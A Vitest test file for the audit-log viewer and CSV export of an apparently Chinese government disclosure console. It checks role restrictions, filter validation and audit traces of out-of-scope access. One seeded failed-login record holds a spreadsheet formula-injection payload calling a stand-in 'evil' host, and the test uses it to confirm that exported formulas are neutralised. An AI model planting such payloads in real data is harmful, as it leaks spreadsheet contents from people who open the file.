import { beforeAll, describe, expect, test, vi } from "vitest";
import { exportAuditCsv, listAuditEvents, parseAuditFilter } from "@/lib/server/admin/audit-log";
import type { Actor } from "@/lib/server/platform/actor";
import { audit } from "@/lib/server/platform/audit";
import { db } from "@/lib/server/platform/db";
import { findDownload } from "@/lib/server/items/attachments";
import { getItemForEdit } from "@/lib/server/items/views";
import { getItemForStaff } from "@/lib/server/items/work-queue";
import { seedBureau, seedDraft, type Bureau } from "../support/bureau";

// The route handler reads the signed-in actor from the session cookie; here it is whoever the test says.
let signedIn: Actor | null = null;
vi.mock("@/lib/server/platform/auth", () => ({ getActor: async () => signedIn }));
const { GET: exportRoute } = await import("@/app/console/(staff)/audit/export/route");

/**
 * The 审计管理员's viewer and CSV export (issue 10 §2), and the traces out-of-scope attempts leave.
 */
let b: Bureau;
const meta = { ip: "203.0.113.9", userAgent: "审计测试/1.0" };
beforeAll(async () => {
  b = await seedBureau();
  await audit(null, { actor: b.people.liaison, action: "item.update", entity: "DisclosureItem", entityId: `it-${b.tag}`, meta, detail: { note: "a" } });
  await audit(null, { actor: b.people.head, action: "item.review.approve", entity: "DisclosureItem", entityId: `it-${b.tag}`, meta });
  await audit(null, { actorName: `=HYPERLINK("http://evil/?"&A1)-${b.tag}`, action: "auth.login", entity: "User", result: "FAILURE", meta, detail: { why: "unknown_user" } });
});

const lastEvent = async (where: Record<string, unknown>) => db().auditEvent.findFirst({ where, orderBy: { id: "desc" } });

describe("filters", () => {
  test("by user, action, target and result; dates are Beijing days", async () => {
    const auditor = b.people.auditor;
    const byTarget = await listAuditEvents(auditor, { entity: "DisclosureItem", entityId: `it-${b.tag}` });
    expect(byTarget?.events.map((e) => e.action)).toEqual(["item.review.approve", "item.update"]);
    const byUser = await listAuditEvents(auditor, { user: b.people.liaison.id, action: "item.update" });
    expect(byUser?.events).toHaveLength(1);
    const failures = await listAuditEvents(auditor, { result: "FAILURE", user: `-${b.tag}` });
    expect(failures?.events.map((e) => e.actorName)).toEqual([`=HYPERLINK("http://evil/?"&A1)-${b.tag}`]);
    const today = new Date(Date.now() + 8 * 3600_000).toISOString().slice(0, 10);
    expect((await listAuditEvents(auditor, { entityId: `it-${b.tag}`, from: today, to: today }))?.total).toBe(2);
    expect((await listAuditEvents(auditor, { entityId: `it-${b.tag}`, from: "2020-01-01", to: "2020-12-31" }))?.total).toBe(0);
  });

  test("bad filters get Chinese field errors and are left out; the rest still applies", () => {
    const { filter, errors } = parseAuditFilter({ from: "2026-02-30", to: "2025-01-01", entity: "Nope", result: "MAYBE", user: "张三\u0000" });
    expect(errors.from?.[0]).toContain("有效日期");
    expect(errors.entity?.[0]).toBe("对象类型无效");
    expect(errors.result?.[0]).toBe("结果无效");
    expect(filter).toMatchObject({ user: "张三", to: "2025-01-01" });
    expect(parseAuditFilter({ from: "2026-02-01", to: "2026-01-01" }).errors.to?.[0]).toBe("结束日期不能早于开始日期");
  });

  test("nobody but the 审计管理员 reads the log", async () => {
    for (const who of [b.people.sysadmin, b.people.office, b.people.liaison]) expect(await listAuditEvents(who)).toBeNull();
  });
});

describe("CSV export", () => {
  test("other roles are refused, and the refusal is audited", async () => {
    const r = await exportAuditCsv(b.people.sysadmin, {});
    expect(r).toMatchObject({ ok: false, error: "forbidden" });
    expect(await lastEvent({ actorId: b.people.sysadmin.id, action: "audit.export" })).toMatchObject({ result: "DENIED", detail: { reason: "wrong_role" } });
  });

  test("the auditor gets the filtered rows: BOM, Chinese labels, formulas neutralised; the export is audited", async () => {
    const r = await exportAuditCsv(b.people.auditor, { user: `-${b.tag}` });
    expect(r.ok).toBe(true);
    const { csv, rows } = (r as { value: { csv: string; rows: number } }).value;
    expect(rows).toBe(1);
    expect(csv.startsWith("\uFEFF编号,时间（北京时间）,用户")).toBe(true);
    const line = csv.split("\r\n")[1];
    expect(line).toContain(`"'=HYPERLINK(""http://evil/?""&A1)-${b.tag}"`);
    expect(line).toContain("登录");
    expect(line).toContain("失败");
    expect(line).toContain("203.0.113.9");
    expect(await lastEvent({ actorId: b.people.auditor.id, action: "audit.export" })).toMatchObject({ result: "SUCCESS", detail: { rows: 1 } });
  });

  test("the route: CSV for the auditor, 403 for others, 400 with a Chinese message for a bad filter", async () => {
    signedIn = b.people.auditor;
    const ok = await exportRoute(new Request(`http://localhost/console/audit/export?entityId=it-${b.tag}&action=item.update`));
    expect(ok.status).toBe(200);
    expect(ok.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(ok.headers.get("content-disposition")).toMatch(/^attachment; .*filename\*=UTF-8''%E5%AE%A1/);
    const body = await ok.text();
    expect(body.split("\r\n").filter(Boolean)).toHaveLength(2);
    expect(body).toContain("修改信息");
    const bad = await exportRoute(new Request("http://localhost/console/audit/export?from=yesterday"));
    expect(bad.status).toBe(400);
    expect(await bad.text()).toContain("有效日期");
    signedIn = await b.user("secadmin", ["SECADMIN"], null);
    expect((await exportRoute(new Request("http://localhost/console/audit/export"))).status).toBe(403);
    signedIn = null;
    expect((await exportRoute(new Request("http://localhost/console/audit/export"))).status).toBe(401);
  });
});

describe("out-of-scope attempts leave a trace", () => {
  test("another 处室's draft: not found for the caller, DENIED out_of_scope for the auditor", async () => {
    const draft = await seedDraft(b);
    const probe = b.people.otherLiaison;
    expect(await getItemForStaff(probe, draft.id)).toBeNull();
    expect(await lastEvent({ actorId: probe.id, action: "item.view" })).toMatchObject({
      entity: "DisclosureItem", entityId: draft.id, result: "DENIED", detail: { reason: "out_of_scope" },
    });
    expect(await getItemForEdit(probe, draft.id)).toBeNull();
    expect(await lastEvent({ actorId: probe.id, action: "item.view" })).toMatchObject({ entityId: draft.id, detail: { reason: "out_of_scope", page: "edit" } });
    // A made-up id is recorded as such, and answered the same way.
    expect(await getItemForStaff(probe, `no-such-${b.tag}`)).toBeNull();
    expect(await lastEvent({ actorId: probe.id, action: "item.view" })).toMatchObject({ entityId: `no-such-${b.tag}`, detail: { reason: "not_found" } });
    // The rightful liaison still gets in, and leaves no refusal.
    const before = await db().auditEvent.count({ where: { actorId: b.people.liaison.id, action: "item.view" } });
    expect(await getItemForStaff(b.people.liaison, draft.id)).not.toBeNull();
    expect(await db().auditEvent.count({ where: { actorId: b.people.liaison.id, action: "item.view" } })).toBe(before);
  });

  test("a draft attachment of another 处室 is not served, and the attempt is recorded", async () => {
    const draft = await seedDraft(b);
    const file = await db().storedFile.create({ data: { sha256: `${b.tag}`.padEnd(64, "0"), size: 1, mimeType: "application/pdf", fileName: "内部.pdf", uploadedById: b.people.liaison.id } });
    const attachment = await db().attachment.create({ data: { revisionId: draft.revisionId, fileId: file.id } });
    expect(await findDownload(attachment.id, b.people.otherLiaison)).toBeNull();
    expect(await lastEvent({ actorId: b.people.otherLiaison.id, action: "item.view" })).toMatchObject({ entityId: draft.id, detail: { reason: "out_of_scope", attachmentId: attachment.id } });
  });
});
